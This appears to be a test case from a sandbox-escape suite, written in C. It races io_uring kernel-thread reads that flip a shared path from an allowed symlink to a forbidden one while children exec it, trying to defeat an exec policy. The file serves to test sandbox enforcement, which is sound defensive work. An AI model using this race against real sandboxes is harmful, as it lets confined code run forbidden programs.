// escape: the path is written by io_uring, whose kernel threads nobody stops
// group: argument races
// policy: exec
// neighbour: exec_plain --neighbour
// attempts: 1500
#include "uring.h"

// Reads the file's first letter or its second over the path's last one, on a kernel thread.
static void attack(void) {
  if (symlink(GOOD, "/tmp/a") < 0 || symlink(forbidden(), "/tmp/b") < 0) broken("symlink");
  char* path = shared_memory(4096);
  strcpy(path, "/tmp/a");
  const int letters = memfd_with("ab", 2);
  if (beside()) {
    for (int i = 0;; i = !i) {
      struct io_uring_sqe operation = {.opcode = IORING_OP_READ,
                                       .flags = IOSQE_ASYNC,
                                       .fd = letters,
                                       .addr = (uintptr_t)(path + 5),
                                       .len = 1,
                                       .off = (unsigned)i};
      if (in_child()) {
        if (by_io_uring(operation) < 0) broken("read");
        _exit(0);
      }
    }
  }
  while (more()) {
    if (!in_child()) continue;
    run(path);
    _exit(1);
  }
}
